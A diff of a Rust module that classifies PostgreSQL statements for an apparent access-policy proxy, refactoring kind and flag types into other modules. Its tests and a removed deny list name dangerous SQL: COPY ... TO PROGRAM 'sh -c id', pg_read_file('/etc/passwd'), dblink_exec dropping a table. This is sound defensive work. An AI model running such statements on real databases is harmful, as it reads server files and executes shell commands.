@@ -7,252 +7,15 @@
 
 use std::collections::BTreeSet;
 
-use serde::Serialize;
 use serde_json::{Map, Value};
 
 use super::{
-    columns::{self, ColumnReference},
+    Flag, Kind, Request, columns,
+    functions::{is_dynamic_sql_function, is_side_effect_function},
     plpgsql,
+    statement::{Prepared, Statement, Unclassifiable, flag, kind},
+    tree::{node_of, node_of_map},
 };
-
-/// What a statement is, for policy. A statement can have several kinds (a SELECT
-/// whose CTE deletes has `select` and `delete`); the first is its primary kind.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
-#[serde(rename_all = "snake_case")]
-pub enum Kind {
-    Select,
-    Insert,
-    Update,
-    Delete,
-    Merge,
-    /// COPY ... FROM (writes a table).
-    CopyIn,
-    /// COPY ... TO (reads a table or query).
-    CopyOut,
-    /// CREATE / ALTER / DROP / TRUNCATE / COMMENT and other schema changes.
-    Ddl,
-    /// GRANT / REVOKE / roles.
-    Dcl,
-    /// BEGIN / COMMIT / ROLLBACK / SAVEPOINT / PREPARE TRANSACTION.
-    Transaction,
-    /// SET / SHOW / RESET / DISCARD / DEALLOCATE / LISTEN / NOTIFY / UNLISTEN.
-    Session,
-    /// FETCH / MOVE / CLOSE of a cursor.
-    Cursor,
-    /// LOCK TABLE.
-    Lock,
-    /// VACUUM / ANALYZE / CLUSTER / REINDEX / CHECKPOINT / REFRESH MATERIALIZED VIEW.
-    Maintenance,
-    /// ALTER SYSTEM, LOAD, CREATE/DROP DATABASE, tablespaces, extensions.
-    Admin,
-    /// CALL procedure.
-    Call,
-    /// DO block; its PL/pgSQL body's statements add their kinds.
-    Do,
-    /// SQL-level EXECUTE of a prepared statement (its text is not seen here; see
-    /// [`super::PreparedStatements::resolve`]).
-    Execute,
-    /// Protocol-level FunctionCall message (by function OID).
-    FunctionCall,
-}
-
-impl Kind {
-    pub fn as_str(self) -> &'static str {
-        match self {
-            Kind::Select => "select",
-            Kind::Insert => "insert",
-            Kind::Update => "update",
-            Kind::Delete => "delete",
-            Kind::Merge => "merge",
-            Kind::CopyIn => "copy_in",
-            Kind::CopyOut => "copy_out",
-            Kind::Ddl => "ddl",
-            Kind::Dcl => "dcl",
-            Kind::Transaction => "transaction",
-            Kind::Session => "session",
-            Kind::Cursor => "cursor",
-            Kind::Lock => "lock",
-            Kind::Maintenance => "maintenance",
-            Kind::Admin => "admin",
-            Kind::Call => "call",
-            Kind::Do => "do",
-            Kind::Execute => "execute",
-            Kind::FunctionCall => "function_call",
-        }
-    }
-
-    pub fn parse(s: &str) -> Option<Kind> {
-        Kind::ALL.iter().copied().find(|k| k.as_str() == s)
-    }
-
-    pub const ALL: [Kind; 19] = [
-        Kind::Select,
-        Kind::Insert,
-        Kind::Update,
-        Kind::Delete,
-        Kind::Merge,
-        Kind::CopyIn,
-        Kind::CopyOut,
-        Kind::Ddl,
-        Kind::Dcl,
-        Kind::Transaction,
-        Kind::Session,
-        Kind::Cursor,
-        Kind::Lock,
-        Kind::Maintenance,
-        Kind::Admin,
-        Kind::Call,
-        Kind::Do,
-        Kind::Execute,
-        Kind::FunctionCall,
-    ];
-}
-
-impl std::fmt::Display for Kind {
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.write_str(self.as_str())
-    }
-}
-
-/// A risky feature of a statement. An allow rule matches a statement with a flag only
-/// when it names that flag in `permit_flags`: risky features are never allowed by
-/// accident of a broad rule.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
-#[serde(rename_all = "snake_case")]
-pub enum Flag {
-    UpdateWithoutWhere,
-    DeleteWithoutWhere,
-    /// INSERT/UPDATE/DELETE/MERGE inside WITH.
-    DataModifyingCte,
-    /// EXPLAIN ANALYZE: the explained statement runs.
-    ExplainAnalyze,
-    /// Creates a table from a query (CREATE TABLE AS, SELECT INTO).
-    CreateTableAs,
-    /// COPY ... PROGRAM: runs a shell command on the database server.
-    CopyProgram,
-    /// COPY to or from a file on the database server.
-    ServerFile,
-    /// SET ROLE, SET SESSION AUTHORIZATION, set_config('role', ...).
-    RoleChange,
-    /// SET search_path or set_config('search_path', ...): changes what names mean.
-    SearchPathChange,
-    /// SET client_encoding / standard_conforming_strings (or set_config of them):
-    /// changes how the server reads SQL text, which the proxy's parser could then read
-    /// differently.
-    LexerChange,
-    /// SQL whose text is not visible to the parser: EXECUTE of a string in PL/pgSQL (DO
-    /// blocks, function bodies), SQL-level EXECUTE of an unknown prepared statement,
-    /// query_to_xml(...), and function bodies in languages other than plpgsql and sql.
-    DynamicSql,
-    /// A function with effects outside the statement: files, large objects, dblink,
-    /// signalling backends, reloading configuration, replication slots.
-    SideEffectFunction,
-}
-
-impl Flag {
-    pub fn as_str(self) -> &'static str {
-        match self {
-            Flag::UpdateWithoutWhere => "update_without_where",
-            Flag::DeleteWithoutWhere => "delete_without_where",
-            Flag::DataModifyingCte => "data_modifying_cte",
-            Flag::ExplainAnalyze => "explain_analyze",
-            Flag::CreateTableAs => "create_table_as",
-            Flag::CopyProgram => "copy_program",
-            Flag::ServerFile => "server_file",
-            Flag::RoleChange => "role_change",
-            Flag::SearchPathChange => "search_path_change",
-            Flag::LexerChange => "lexer_change",
-            Flag::DynamicSql => "dynamic_sql",
-            Flag::SideEffectFunction => "side_effect_function",
-        }
-    }
-
-    pub fn parse(s: &str) -> Option<Flag> {
-        Flag::ALL.iter().copied().find(|k| k.as_str() == s)
-    }
-
-    pub const ALL: [Flag; 12] = [
-        Flag::UpdateWithoutWhere,
-        Flag::DeleteWithoutWhere,
-        Flag::DataModifyingCte,
-        Flag::ExplainAnalyze,
-        Flag::CreateTableAs,
-        Flag::CopyProgram,
-        Flag::ServerFile,
-        Flag::RoleChange,
-        Flag::SearchPathChange,
-        Flag::LexerChange,
-        Flag::DynamicSql,
-        Flag::SideEffectFunction,
-    ];
-}
-
-impl std::fmt::Display for Flag {
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.write_str(self.as_str())
-    }
-}
-
-/// One statement, as policy sees it.
-#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
-pub struct Statement {
-    /// This statement's own text (a slice of a multi-statement string).
-    pub text: String,
-    /// libpg_query fingerprint (constants removed): groups executions of "the same" query.
-    pub fingerprint: String,
-    /// Primary kind first, then kinds of nested data-modifying statements.
-    pub kinds: Vec<Kind>,
-    /// Every relation touched, `schema.name`. Unqualified names are resolved as the
-    /// default search_path would: `pg_*` to `pg_catalog`, others to `public`.
-    pub tables: BTreeSet<String>,
-    /// The subset of `tables` written (INSERT/UPDATE/DELETE/MERGE/COPY FROM/TRUNCATE
-    /// targets, and every relation of a DDL statement).
-    pub writes: BTreeSet<String>,
-    /// Functions called, as written (`lower`, `pg_catalog.pg_read_file`).
-    pub functions: BTreeSet<String>,
-    pub flags: BTreeSet<Flag>,
-    /// Columns used to filter, join, sort, group or partition (for the masking
-    /// side-channel guard), sorted and deduplicated.
-    pub columns: Vec<ColumnReference>,
-    /// PREPARE / EXECUTE / DEALLOCATE at the SQL level: the name involved, so a session
-    /// can judge an EXECUTE by what was prepared ([`super::PreparedStatements`]).
-    pub prepared: Option<Prepared>,
-}
-
-/// What a statement does to the session's named prepared statements.
-#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
-#[serde(rename_all = "snake_case", tag = "op", content = "name")]
-pub enum Prepared {
-    /// `PREPARE name AS ...`: this statement is classified as the prepared query.
-    Prepare(String),
-    /// `EXECUTE name(...)`.
-    Execute(String),
-    /// `DEALLOCATE name`; `None` for DEALLOCATE ALL and DISCARD (which may drop them all).
-    Deallocate(Option<String>),
-}
-
-impl Statement {
-    /// The primary kind ([`classify`] always sets one; a hand-built statement
-    /// without kinds reads as `execute`, which no broad rule allows by accident).
-    pub fn kind(&self) -> Kind {
-        self.kinds.first().copied().unwrap_or(Kind::Execute)
-    }
-}
-
-/// Why a text cannot be judged. Such text is always refused.
-#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
-pub enum Unclassifiable {
-    #[error("statement is {len} bytes, over the {max}-byte limit for analysis")]
-    TooLong { len: usize, max: usize },
-    #[error("statement contains a NUL byte")]
-    Nul,
-    #[error("statement does not parse: {0}")]
-    Syntax(String),
-    #[error("statement of type {0} is not understood")]
-    Unsupported(String),
-    #[error("parser unavailable: {0}")]
-    Internal(String),
-}
 
 /// Parses `text` and describes each of its statements. An empty text (or only
 /// comments) yields no statements.
@@ -308,14 +71,11 @@ fn classify_at(
             String::new()
         };
         let mut st = Statement {
-            text: stmt_text.to_owned(),
-            fingerprint,
-            kinds: Vec::new(),
-            tables: BTreeSet::new(),
-            writes: BTreeSet::new(),
-            functions: BTreeSet::new(),
-            flags: BTreeSet::new(),
-            columns: Vec::new(),
+            request: Request {
+                text: stmt_text.to_owned(),
+                fingerprint,
+                ..Request::default()
+            },
             prepared: None,
         };
         let (ty, inner) = node_of(&value)
@@ -325,10 +85,10 @@ fn classify_at(
         st.prepared = prepared_of(ty, inner);
         let mut walk = Walk {
             st: &mut st,
-            ddl: primary == Kind::Ddl
-                || primary == Kind::Dcl
-                || primary == Kind::Admin
-                || primary == Kind::Maintenance,
+            ddl: primary == kind::DDL
+                || primary == kind::DCL
+                || primary == kind::ADMIN
+                || primary == kind::MAINTENANCE,
         };
         walk.value(&value, &[]);
         st.columns = columns::references(&value);
@@ -394,7 +154,8 @@ fn procedural(
     // The server compares language names exactly (identifiers are already lower-cased).
     match (language.as_deref(), body.as_deref()) {
         (Some("plpgsql") | None, Some(body)) => {
-            plpgsql::merge_body(stmt_text, body, st, max_len, depth)
+            let mut fragment = |q: &str, mode| classify_fragment(q, max_len, mode, depth + 1);
+            plpgsql::merge_body(stmt_text, body, st, depth, &mut fragment)
         }
         (Some("sql"), Some(body)) if !is_do => {
             if depth + 1 >= plpgsql::MAX_DEPTH {
@@ -414,7 +175,7 @@ fn procedural(
             lang.unwrap_or("?")
         ))),
         _ => {
-            st.flags.insert(Flag::DynamicSql);
+            st.flags.insert(flag::DYNAMIC_SQL);
             Ok(())
         }
     }
@@ -444,26 +205,6 @@ fn slice(text: &str, location: i32, len: i32) -> &str {
     text.get(start..end).unwrap_or(text).trim()
 }
 
-/// `{"node": {"SelectStmt": {...}}}` or `{"SelectStmt": {...}}` -> ("SelectStmt", {...}).
-pub(super) fn node_of(v: &Value) -> Option<(&str, &Map<String, Value>)> {
-    node_of_map(v.as_object()?)
-}
-
-pub(super) fn node_of_map(map: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
-    let map = match map.get("node") {
-        Some(Value::Object(inner)) if map.len() == 1 => inner,
-        _ => map,
-    };
-    if map.len() != 1 {
-        return None;
-    }
-    let (k, v) = map.iter().next()?;
-    if !k.starts_with(|c: char| c.is_ascii_uppercase()) {
-        return None;
-    }
-    Some((k.as_str(), v.as_object()?))
-}
-
 fn inner_node<'a>(
     map: &'a Map<String, Value>,
     field: &str,
@@ -480,21 +221,21 @@ fn top_kind(
     Ok(match ty {
         "SelectStmt" => {
             if has(inner, "into_clause") {
-                flags.insert(Flag::CreateTableAs);
-                Kind::Ddl
+                flags.insert(flag::CREATE_TABLE_AS);
+                kind::DDL
             } else {
-                Kind::Select
+                kind::SELECT
             }
         }
-        "InsertStmt" => Kind::Insert,
-        "UpdateStmt" => Kind::Update,
-        "DeleteStmt" => Kind::Delete,
-        "MergeStmt" => Kind::Merge,
+        "InsertStmt" => kind::INSERT,
+        "UpdateStmt" => kind::UPDATE,
+        "DeleteStmt" => kind::DELETE,
+        "MergeStmt" => kind::MERGE,
         "CopyStmt" => {
             if bool_field(inner, "is_from") {
-                Kind::CopyIn
+                kind::COPY_IN
             } else {
-                Kind::CopyOut
+                kind::COPY_OUT
             }
         }
         "ExplainStmt" => {
@@ -508,7 +249,7 @@ fn top_kind(
                     t == "DefElem" && d.get("defname").and_then(Value::as_str) == Some("analyze")
                 });
             if analyze {
-                flags.insert(Flag::ExplainAnalyze);
+                flags.insert(flag::EXPLAIN_ANALYZE);
             }
             // EXPLAIN is judged as what it explains (conservative even without
             // ANALYZE: planning can evaluate functions).
@@ -522,34 +263,34 @@ fn top_kind(
             top_kind(t, i, flags)?
         }
         "CreateTableAsStmt" => {
-            flags.insert(Flag::CreateTableAs);
-            Kind::Ddl
+            flags.insert(flag::CREATE_TABLE_AS);
+            kind::DDL
         }
-        "TransactionStmt" => Kind::Transaction,
+        "TransactionStmt" => kind::TRANSACTION,
         "VariableSetStmt" => {
             let name = inner.get("name").and_then(Value::as_str).unwrap_or("");
             match name {
                 "role" | "session_authorization" => {
-                    flags.insert(Flag::RoleChange);
+                    flags.insert(flag::ROLE_CHANGE);
                 }
                 "search_path" => {
-                    flags.insert(Flag::SearchPathChange);
+                    flags.insert(flag::SEARCH_PATH_CHANGE);
                 }
                 "client_encoding" | "standard_conforming_strings" => {
-                    flags.insert(Flag::LexerChange);
+                    flags.insert(flag::LEXER_CHANGE);
                 }
                 // RESET ALL / SET SESSION CHARACTERISTICS etc. carry no name; RESET ALL
                 // returns to the authenticated role and default path, which is safe.
                 _ => {}
             }
-            Kind::Session
+            kind::SESSION
         }
         "VariableShowStmt" | "DiscardStmt" | "DeallocateStmt" | "ListenStmt" | "UnlistenStmt"
-        | "NotifyStmt" | "ConstraintsSetStmt" => Kind::Session,
-        "FetchStmt" | "ClosePortalStmt" => Kind::Cursor,
-        "LockStmt" => Kind::Lock,
+        | "NotifyStmt" | "ConstraintsSetStmt" => kind::SESSION,
+        "FetchStmt" | "ClosePortalStmt" => kind::CURSOR,
+        "LockStmt" => kind::LOCK,
         "VacuumStmt" | "ClusterStmt" | "ReindexStmt" | "CheckPointStmt" | "RefreshMatViewStmt" => {
-            Kind::Maintenance
+            kind::MAINTENANCE
         }
         "AlterSystemStmt"
         | "LoadStmt"
@@ -579,7 +320,7 @@ fn top_kind(
         | "ImportForeignSchemaStmt"
         | "CreateEventTrigStmt"
         | "AlterEventTrigStmt"
-        | "CreatePLangStmt" => Kind::Admin,
+        | "CreatePLangStmt" => kind::ADMIN,
         "GrantStmt"
         | "GrantRoleStmt"
         | "CreateRoleStmt"
@@ -591,15 +332,15 @@ fn top_kind(
         | "DropOwnedStmt"
         | "CreatePolicyStmt"
         | "AlterPolicyStmt"
-        | "AlterOwnerStmt" => Kind::Dcl,
-        "CallStmt" => Kind::Call,
+        | "AlterOwnerStmt" => kind::DCL,
+        "CallStmt" => kind::CALL,
         // The body is analysed by `procedural`.
-        "DoStmt" => Kind::Do,
+        "DoStmt" => kind::DO,
         // A PL/pgSQL assignment (`x := expr`, only from procedural code) evaluates a SELECT.
-        "PlassignStmt" => Kind::Select,
+        "PlassignStmt" => kind::SELECT,
         "ExecuteStmt" => {
-            flags.insert(Flag::DynamicSql);
-            Kind::Execute
+            flags.insert(flag::DYNAMIC_SQL);
+            kind::EXECUTE
         }
         t if t.ends_with("Stmt")
             && (t.starts_with("Create")
@@ -616,7 +357,7 @@ fn top_kind(
                 || t.starts_with("Composite")
                 || t.starts_with("Stats")) =>
         {
-            Kind::Ddl
+            kind::DDL
         }
         other => return Err(Unclassifiable::Unsupported(other.to_owned())),
     })
@@ -690,7 +431,7 @@ impl Walk<'_> {
                     && let Some((qt, _)) = inner_node(c, "ctequery")
                     && matches!(qt, "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt")
                 {
-                    self.st.flags.insert(Flag::DataModifyingCte);
+                    self.st.flags.insert(flag::DATA_MODIFYING_CTE);
                 }
                 self.value(cte, &visible);
             }
@@ -712,26 +453,26 @@ impl Walk<'_> {
             "FuncCall" => self.func_call(inner),
             "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" => {
                 let kind = match ty {
-                    "InsertStmt" => Kind::Insert,
-                    "UpdateStmt" => Kind::Update,
-                    "DeleteStmt" => Kind::Delete,
-                    _ => Kind::Merge,
+                    "InsertStmt" => kind::INSERT,
+                    "UpdateStmt" => kind::UPDATE,
+                    "DeleteStmt" => kind::DELETE,
+                    _ => kind::MERGE,
                 };
                 if !self.st.kinds.contains(&kind) {
                     self.st.kinds.push(kind);
                 }
                 if ty == "UpdateStmt" && !has(inner, "where_clause") {
-                    self.st.flags.insert(Flag::UpdateWithoutWhere);
+                    self.st.flags.insert(flag::UPDATE_WITHOUT_WHERE);
                 }
                 if ty == "DeleteStmt" && !has(inner, "where_clause") {
-                    self.st.flags.insert(Flag::DeleteWithoutWhere);
+                    self.st.flags.insert(flag::DELETE_WITHOUT_WHERE);
                 }
                 if let Some(rel) = inner.get("relation").and_then(Value::as_object) {
                     self.range_var(rel, scope, true);
                 }
             }
             "SelectStmt" if has(inner, "into_clause") => {
-                self.st.flags.insert(Flag::CreateTableAs);
+                self.st.flags.insert(flag::CREATE_TABLE_AS);
                 if let Some(rel) = inner
                     .get("into_clause")
                     .and_then(Value::as_object)
@@ -753,13 +494,13 @@ impl Walk<'_> {
             }
             "CopyStmt" => {
                 if bool_field(inner, "is_program") {
-                    self.st.flags.insert(Flag::CopyProgram);
+                    self.st.flags.insert(flag::COPY_PROGRAM);
                 } else if inner
                     .get("filename")
                     .and_then(Value::as_str)
                     .is_some_and(|f| !f.is_empty())
                 {
-                    self.st.flags.insert(Flag::ServerFile);
+                    self.st.flags.insert(flag::SERVER_FILE);
                 }
                 if let Some(rel) = inner.get("relation").and_then(Value::as_object) {
                     self.range_var(rel, scope, bool_field(inner, "is_from"));
@@ -778,17 +519,17 @@ impl Walk<'_> {
                 }
             }
             "ExecuteStmt" => {
-                self.st.flags.insert(Flag::DynamicSql);
+                self.st.flags.insert(flag::DYNAMIC_SQL);
             }
             "VariableSetStmt" => match inner.get("name").and_then(Value::as_str) {
                 Some("role" | "session_authorization") => {
-                    self.st.flags.insert(Flag::RoleChange);
+                    self.st.flags.insert(flag::ROLE_CHANGE);
                 }
                 Some("search_path") => {
-                    self.st.flags.insert(Flag::SearchPathChange);
+                    self.st.flags.insert(flag::SEARCH_PATH_CHANGE);
                 }
                 Some("client_encoding" | "standard_conforming_strings") => {
-                    self.st.flags.insert(Flag::LexerChange);
+                    self.st.flags.insert(flag::LEXER_CHANGE);
                 }
                 _ => {}
             },
@@ -839,10 +580,10 @@ impl Walk<'_> {
         let name = parts.join(".");
         let base = parts[parts.len() - 1];
         if is_side_effect_function(base) {
-            self.st.flags.insert(Flag::SideEffectFunction);
+            self.st.flags.insert(flag::SIDE_EFFECT_FUNCTION);
         }
         if is_dynamic_sql_function(base) {
-            self.st.flags.insert(Flag::DynamicSql);
+            self.st.flags.insert(flag::DYNAMIC_SQL);
         }
         if base == "set_config" {
             // set_config('role' | 'session_authorization' | 'search_path', ...): judged by
@@ -861,102 +602,24 @@ impl Walk<'_> {
                 .map(str::to_ascii_lowercase);
             match first.as_deref() {
                 Some("role" | "session_authorization") => {
-                    self.st.flags.insert(Flag::RoleChange);
+                    self.st.flags.insert(flag::ROLE_CHANGE);
                 }
                 Some("search_path") => {
-                    self.st.flags.insert(Flag::SearchPathChange);
+                    self.st.flags.insert(flag::SEARCH_PATH_CHANGE);
                 }
                 Some("client_encoding" | "standard_conforming_strings") => {
-                    self.st.flags.insert(Flag::LexerChange);
+                    self.st.flags.insert(flag::LEXER_CHANGE);
                 }
                 Some(_) => {}
                 None => {
-                    self.st.flags.insert(Flag::RoleChange);
-                    self.st.flags.insert(Flag::SearchPathChange);
-                    self.st.flags.insert(Flag::LexerChange);
+                    self.st.flags.insert(flag::ROLE_CHANGE);
+                    self.st.flags.insert(flag::SEARCH_PATH_CHANGE);
+                    self.st.flags.insert(flag::LEXER_CHANGE);
                 }
             }
         }
         self.st.functions.insert(name);
     }
-}
-
-/// Functions whose effects reach beyond the rows of the statement.
-fn is_side_effect_function(name: &str) -> bool {
-    const EXACT: &[&str] = &[
-        "pg_read_file",
-        "pg_read_binary_file",
-        "pg_stat_file",
-        "pg_ls_dir",
-        "pg_ls_logdir",
-        "pg_ls_waldir",
-        "pg_ls_tmpdir",
-        "pg_ls_archive_statusdir",
-        "pg_ls_logicalsnapdir",
-        "pg_ls_logicalmapdir",
-        "pg_ls_replslotdir",
-        "pg_file_write",
-        "pg_file_rename",
-        "pg_file_unlink",
-        "pg_file_sync",
-        "pg_logdir_ls",
-        "lo_import",
-        "lo_export",
-        "lo_unlink",
-        "lo_put",
-        "lo_from_bytea",
-        "lo_create",
-        "lo_creat",
-        "lo_truncate",
-        "pg_terminate_backend",
-        "pg_cancel_backend",
-        "pg_reload_conf",
-        "pg_rotate_logfile",
-        "pg_promote",
-        "pg_switch_wal",
-        "pg_create_restore_point",
-        "pg_backup_start",
-        "pg_backup_stop",
-        "pg_log_backend_memory_contexts",
-        "pg_logical_emit_message",
-        "pg_import_system_collations",
-        "pg_wal_replay_pause",
-        "pg_wal_replay_resume",
-    ];
-    const PREFIX: &[&str] = &[
-        "dblink",
-        "pg_replication_",
-        "pg_create_physical_replication_slot",
-        "pg_create_logical_replication_slot",
-        "pg_drop_replication_slot",
-        "pg_copy_",
-        "pg_stat_reset",
-        "pg_logical_slot_",
-    ];
-    EXACT.contains(&name) || PREFIX.iter().any(|p| name.starts_with(p))
-}
-
-/// Functions that run SQL given to them as a string or name a relation by string.
-pub(super) fn is_dynamic_sql_function(name: &str) -> bool {
-    matches!(
-        name,
-        "query_to_xml"
-            | "query_to_xmlschema"
-            | "query_to_xml_and_xmlschema"
-            | "cursor_to_xml"
-            | "cursor_to_xmlschema"
-            | "table_to_xml"
-            | "table_to_xmlschema"
-            | "table_to_xml_and_xmlschema"
-            | "schema_to_xml"
-            | "schema_to_xmlschema"
-            | "schema_to_xml_and_xmlschema"
-            | "database_to_xml"
-            | "database_to_xmlschema"
-            | "database_to_xml_and_xmlschema"
-            | "ts_stat"
-            | "ts_rewrite"
-    )
 }
 
 #[cfg(test)]
@@ -974,7 +637,7 @@ mod tests {
         let s = one(
             "SELECT a FROM orders o JOIN sales.items i ON true WHERE x IN (SELECT 1 FROM pg_class)",
         );
-        assert_eq!(s.kinds, vec![Kind::Select]);
+        assert_eq!(s.kinds, vec![kind::SELECT]);
         assert_eq!(
             s.tables.iter().map(String::as_str).collect::<Vec<_>>(),
             ["pg_catalog.pg_class", "public.orders", "sales.items"]
@@ -988,24 +651,24 @@ mod tests {
         assert!(
             one("UPDATE t SET a = 1")
                 .flags
-                .contains(&Flag::UpdateWithoutWhere)
+                .contains(&flag::UPDATE_WITHOUT_WHERE)
         );
         assert!(
             !one("UPDATE t SET a = 1 WHERE id = 2")
                 .flags
-                .contains(&Flag::UpdateWithoutWhere)
+                .contains(&flag::UPDATE_WITHOUT_WHERE)
         );
         let d = one("DELETE FROM s.t");
-        assert!(d.flags.contains(&Flag::DeleteWithoutWhere));
+        assert!(d.flags.contains(&flag::DELETE_WITHOUT_WHERE));
         assert_eq!(d.writes.iter().next().unwrap(), "s.t");
     }
 
     #[test]
     fn data_modifying_cte_adds_its_kind() {
         let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
-        assert_eq!(s.kinds, vec![Kind::Select, Kind::Delete]);
-        assert!(s.flags.contains(&Flag::DataModifyingCte));
-        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
+        assert_eq!(s.kinds, vec![kind::SELECT, kind::DELETE]);
+        assert!(s.flags.contains(&flag::DATA_MODIFYING_CTE));
+        assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
         assert!(s.tables.contains("public.t"));
         assert!(!s.tables.contains("public.d"), "CTE name is not a table");
     }
@@ -1024,36 +687,36 @@ mod tests {
     #[test]
     fn functions_anywhere_are_seen() {
         let s = one("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))");
-        assert!(s.flags.contains(&Flag::SideEffectFunction));
+        assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
         let s = one("SELECT * FROM pg_catalog.pg_ls_dir('.')");
-        assert!(s.flags.contains(&Flag::SideEffectFunction));
+        assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
         let s = one("SELECT lower(x) FROM t ORDER BY (SELECT dblink_exec('x', 'drop table t'))");
-        assert!(s.flags.contains(&Flag::SideEffectFunction));
+        assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
         assert!(s.functions.contains("lower"));
         let s = one("SELECT query_to_xml('delete from t', true, true, '')");
-        assert!(s.flags.contains(&Flag::DynamicSql));
+        assert!(s.flags.contains(&flag::DYNAMIC_SQL));
     }
 
     #[test]
     fn explain_is_judged_as_what_it_explains() {
         let s = one("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1");
-        assert_eq!(s.kind(), Kind::Delete);
-        assert!(s.flags.contains(&Flag::ExplainAnalyze));
-        assert_eq!(one("EXPLAIN SELECT 1").kind(), Kind::Select);
+        assert_eq!(s.kind(), kind::DELETE);
+        assert!(s.flags.contains(&flag::EXPLAIN_ANALYZE));
+        assert_eq!(one("EXPLAIN SELECT 1").kind(), kind::SELECT);
     }
 
     #[test]
     fn copy_forms() {
         let s = one("COPY t TO PROGRAM 'sh -c id'");
-        assert_eq!(s.kind(), Kind::CopyOut);
-        assert!(s.flags.contains(&Flag::CopyProgram));
+        assert_eq!(s.kind(), kind::COPY_OUT);
+        assert!(s.flags.contains(&flag::COPY_PROGRAM));
         let s = one("COPY t FROM '/etc/passwd'");
-        assert_eq!(s.kind(), Kind::CopyIn);
-        assert!(s.flags.contains(&Flag::ServerFile));
+        assert_eq!(s.kind(), kind::COPY_IN);
+        assert!(s.flags.contains(&flag::SERVER_FILE));
         assert!(s.writes.contains("public.t"));
         let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
-        assert_eq!(s.kinds, vec![Kind::CopyOut, Kind::Delete]);
-        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
+        assert_eq!(s.kinds, vec![kind::COPY_OUT, kind::DELETE]);
+        assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
         let s = one("TABLE secret.keys");
         assert!(s.tables.contains("secret.keys"));
         let s = one("SELECT \"PG_READ_FILE\"('x'), U&\"pg\\005fls_dir\"('.')");
@@ -1065,69 +728,69 @@ mod tests {
 
     #[test]
     fn role_and_path_changes() {
-        assert!(one("SET ROLE admin").flags.contains(&Flag::RoleChange));
+        assert!(one("SET ROLE admin").flags.contains(&flag::ROLE_CHANGE));
         assert!(
             one("SET SESSION AUTHORIZATION admin")
                 .flags
-                .contains(&Flag::RoleChange)
+                .contains(&flag::ROLE_CHANGE)
         );
         assert!(
             one("SELECT set_config('role', 'admin', false)")
                 .flags
-                .contains(&Flag::RoleChange)
+                .contains(&flag::ROLE_CHANGE)
         );
         assert!(
             one("SELECT set_config($1, 'x', false)")
                 .flags
-                .contains(&Flag::RoleChange)
+                .contains(&flag::ROLE_CHANGE)
         );
         assert!(
             one("SET search_path = evil")
                 .flags
-                .contains(&Flag::SearchPathChange)
+                .contains(&flag::SEARCH_PATH_CHANGE)
         );
         assert!(one("SET statement_timeout = 5").flags.is_empty());
-        assert!(one("SET NAMES 'SJIS'").flags.contains(&Flag::LexerChange));
+        assert!(one("SET NAMES 'SJIS'").flags.contains(&flag::LEXER_CHANGE));
         assert!(
             one("SET standard_conforming_strings = off")
                 .flags
-                .contains(&Flag::LexerChange)
+                .contains(&flag::LEXER_CHANGE)
         );
         assert!(
             one("SELECT set_config('client_encoding', 'BIG5', false)")
                 .flags
-                .contains(&Flag::LexerChange)
+                .contains(&flag::LEXER_CHANGE)
         );
     }
 
     #[test]
     fn ctas_and_select_into_create_tables() {
         let s = one("CREATE TABLE x AS SELECT * FROM secret");
-        assert_eq!(s.kind(), Kind::Ddl);
-        assert!(s.flags.contains(&Flag::CreateTableAs));
+        assert_eq!(s.kind(), kind::DDL);
+        assert!(s.flags.contains(&flag::CREATE_TABLE_AS));
         assert!(s.writes.contains("public.x"));
         let s = one("SELECT * INTO x FROM secret");
-        assert_eq!(s.kind(), Kind::Ddl);
+        assert_eq!(s.kind(), kind::DDL);
         assert!(s.writes.contains("public.x"));
     }
 
     #[test]
     fn do_is_judged_by_its_body() {
         let s = one("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM public.orders; END $$");
-        assert_eq!(s.kinds, vec![Kind::Do, Kind::Select]);
+        assert_eq!(s.kinds, vec![kind::DO, kind::SELECT]);
         assert_eq!(s.tables.iter().collect::<Vec<_>>(), ["public.orders"]);
         assert!(s.flags.is_empty(), "{:?}", s.flags);
         let s = one("DO $$ BEGIN IF now() > '2020-01-01' THEN RAISE NOTICE 'x'; END IF; END $$");
         assert_eq!(
             s.kinds,
-            vec![Kind::Do],
+            vec![kind::DO],
             "an expression without tables adds no kind"
         );
         let s = one(
             "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM s.t LOOP              DELETE FROM s.t WHERE id = r.id; END LOOP; END $$",
         );
-        assert_eq!(s.kind(), Kind::Do);
-        assert!(s.kinds.contains(&Kind::Select) && s.kinds.contains(&Kind::Delete));
+        assert_eq!(s.kind(), kind::DO);
+        assert!(s.kinds.contains(&kind::SELECT) && s.kinds.contains(&kind::DELETE));
         assert!(s.writes.contains("s.t"));
         let s =
             one("DO $$ DECLARE x int := (SELECT max(id) FROM secret.k); BEGIN x := x + 1; END $$");
@@ -1144,10 +807,10 @@ mod tests {
             "cursor queries are classified"
         );
         let s = one("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); COMMIT; END $$");
-        assert!(s.flags.contains(&Flag::SideEffectFunction));
-        assert!(s.kinds.contains(&Kind::Transaction));
+        assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
+        assert!(s.kinds.contains(&kind::TRANSACTION));
         // No dynamic SQL: no dynamic_sql flag.
